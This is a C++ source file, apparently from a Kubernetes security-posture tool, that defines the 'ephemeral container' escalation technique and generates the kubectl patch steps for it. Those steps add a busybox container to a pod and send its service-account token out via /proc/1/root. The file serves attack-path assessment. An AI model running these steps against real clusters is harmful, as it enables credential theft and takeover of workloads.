#include "graph/escalation/requests/enter_pods.h"
#include "graph/escalation/requests/text.h"
#include "graph/escalation/techniques/all.h"

#include <fmt/format.h>

#include <array>

namespace nsposture::escalation::techniques {

namespace {

void edges(const Evaluation& at) {
  constexpr std::array kWriters = {PermissionId{kPatchEphemeral}, PermissionId{kUpdateEphemeral}};
  requests::enter_pods(at, kWriters);
}

StepText text(const StepView& view) {
  const auto place = requests::token_place(view);
  const auto spec = fmt::format(
      R"(,"spec":{{"ephemeralContainers":[{{"name":"take-over","image":"busybox","targetContainerName":"CONTAINER","command":{}}}]}})",
      requests::send_token_command("/proc/1/root", place.file));
  return {fmt::format("{}\n{}",
                      requests::overwrite_object(
                          view, kPatchEphemeral,
                          requests::object_json("v1", "Pod", requests::pod_namespace(view),
                                                requests::pod_name(view), spec),
                          "--subresource=ephemeralcontainers "),
                      requests::receive_token(view)),
          "a container added to the pod sees the files of the others, the token of its account "
          "among them"};
}

}  // namespace

Technique ephemeral_container() {
  return {.id = TechniqueId::EphemeralContainer,
          .title = "Add an ephemeral container to a pod",
          .attack = "T1609",
          .cis = "5.1.4",
          .takes = Takes::Workloads,
          .cost = 13,
          .where = kInNamespaces,
          .any_of = {kPatchEphemeral, kUpdateEphemeral},
          .edges = edges,
          .text = text};
}

}  // namespace nsposture::escalation::techniques
